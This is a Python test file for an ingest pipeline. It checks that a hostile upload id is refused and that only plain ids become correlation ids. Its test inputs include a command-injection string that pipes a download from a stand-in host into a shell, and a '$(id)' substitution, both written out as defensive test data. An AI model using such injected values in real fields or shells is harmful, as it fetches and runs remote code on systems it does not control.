"""The upload id an uploader sets becomes the run's correlation id only in its plain form."""

from __future__ import annotations

import pytest

from shared.events import DatasetIngested, ObjectRef
from shared.identifiers import CORRELATION_ID_RULE, InvalidIdentifier, checked_correlation_id
from shared.services.ingest import UPLOAD_ID_META, IngestService
from shared.triggers import ObjectCreated
from tests.helpers import MemoryBus, MemoryLineage, MemoryStore

RAW, STAGING = "dhow-t-raw", "dhow-t-staging"
CSV = b"customer_id,age\nC1,30\nC2,41\n"


def _ingest(upload_id: str) -> tuple[IngestService, MemoryStore, MemoryBus, ObjectCreated]:
    store, bus = MemoryStore(), MemoryBus()
    svc = IngestService(
        store, bus, MemoryLineage(), staging_container=STAGING, max_upload_bytes=1024
    )
    key = "datasets/customers/jan.csv"
    store.put_bytes(ObjectRef(container=RAW, key=key), CSV, {UPLOAD_ID_META: upload_id})
    return svc, store, bus, ObjectCreated(container=RAW, key=key, size=len(CSV), source_event="t")


@pytest.mark.parametrize(
    "hostile", ["x; curl https://evil.example | sh", "$(id)", "a b", "u_1", "é", "x" * 129]
)
def test_a_hostile_upload_id_is_refused_and_nothing_is_staged_or_announced(hostile: str) -> None:
    svc, store, bus, obj = _ingest(hostile)
    with pytest.raises(InvalidIdentifier) as err:
        svc.handle(obj)
    assert err.value.reason == "identifier_invalid"
    assert CORRELATION_ID_RULE in str(err.value)
    assert UPLOAD_ID_META in str(err.value)
    assert bus.events == []
    assert not any(container == STAGING for container, _ in store.objects)


@pytest.mark.parametrize("good", ["u-7", "0f3c9a1e5b7d4c2a9e8f6a5b4c3d2e1f", "A-1-b"])
def test_a_plain_upload_id_is_the_runs_correlation_id(good: str) -> None:
    svc, _, bus, obj = _ingest(good)
    assert svc.handle(obj).status == "ingested"
    [event] = bus.events
    assert isinstance(event, DatasetIngested)
    assert event.correlation_id == good


def test_ids_the_pipeline_makes_itself_follow_the_rule() -> None:
    for made in ("sha256-0123456789abcdef", "reject-" + "a" * 32, "dhow-prod-customers-1a2b-3c"):
        assert checked_correlation_id(made) == made
    assert checked_correlation_id(None) is None
    assert checked_correlation_id("") == ""  # no id: ingest makes one from the bytes
